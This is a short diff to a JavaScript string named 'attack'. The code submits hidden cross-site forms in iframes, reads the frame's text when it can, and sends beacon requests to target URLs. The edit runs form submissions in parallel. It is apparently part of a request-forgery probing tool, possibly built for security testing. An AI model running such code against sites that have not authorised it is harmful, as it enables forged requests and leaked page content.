@@ -102,7 +102,8 @@ const attack = `async (operations, some, names) => {
       leaving.abort()
     },
     async form(one) {
-      for (const enctype of one.method === 'GET' ? ['text/plain'] : ['text/plain', 'application/x-www-form-urlencoded']) {
+      const enctypes = one.method === 'GET' ? ['text/plain'] : ['text/plain', 'application/x-www-form-urlencoded']
+      await Promise.all(enctypes.map(async enctype => {
         const frame = document.body.appendChild(document.createElement('iframe'))
         frame.name = 'frame' + Math.random()
         const form = document.createElement('form')
@@ -118,7 +119,7 @@ const attack = `async (operations, some, names) => {
         await within(1000, loaded)
         try { if (frame.contentDocument && frame.contentDocument.URL !== 'about:blank') says('form', one, frame.contentDocument.body.innerText) } catch {}
         frame.remove()
-      }
+      }))
     },
     async beacon(one) {
       for (const type of ['text/plain', 'application/json']) navigator.sendBeacon(one.url, new Blob([one.body], { type }))
